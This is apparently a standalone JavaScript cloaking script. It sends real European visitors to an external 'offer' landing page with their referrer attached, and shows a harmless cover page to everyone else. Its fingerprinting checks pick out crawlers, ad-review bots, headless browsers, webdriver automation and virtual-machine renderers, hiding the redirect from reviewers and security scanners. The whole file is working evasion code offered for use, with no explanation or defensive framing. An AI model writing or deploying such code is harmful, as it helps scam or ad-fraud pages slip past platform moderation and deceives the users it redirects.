var target = 'https://offer.lp-hot.example/go?c=551';
var robots = 'bot|crawl|spider|slurp|mediapartners|adsbot|facebookexternalhit|headless|lighthouse|preview';
function looksReal() {
  if (new RegExp(robots, 'i').test(navigator.userAgent)) return false;
  if (navigator.webdriver || !navigator.plugins.length && !/Mobi/.test(navigator.userAgent)) return false;
  if (screen.width < 320 || !navigator.languages || !navigator.languages.length) return false;
  var gl = document.createElement('canvas').getContext('webgl');
  var inf = gl && gl.getExtension('WEBGL_debug_renderer_info');
  if (inf && /swiftshader|llvmpipe|virtualbox/i.test(gl.getParameter(inf.UNMASKED_RENDERER_WEBGL))) return false;
  return true;
}
if (looksReal() && Intl.DateTimeFormat().resolvedOptions().timeZone.indexOf('Europe') === 0) {
  window.location.replace(target + '&r=' + encodeURIComponent(document.referrer));
} else {
  document.addEventListener('DOMContentLoaded', function () {
    document.getElementById('cover').style.display = 'none';
  });
}
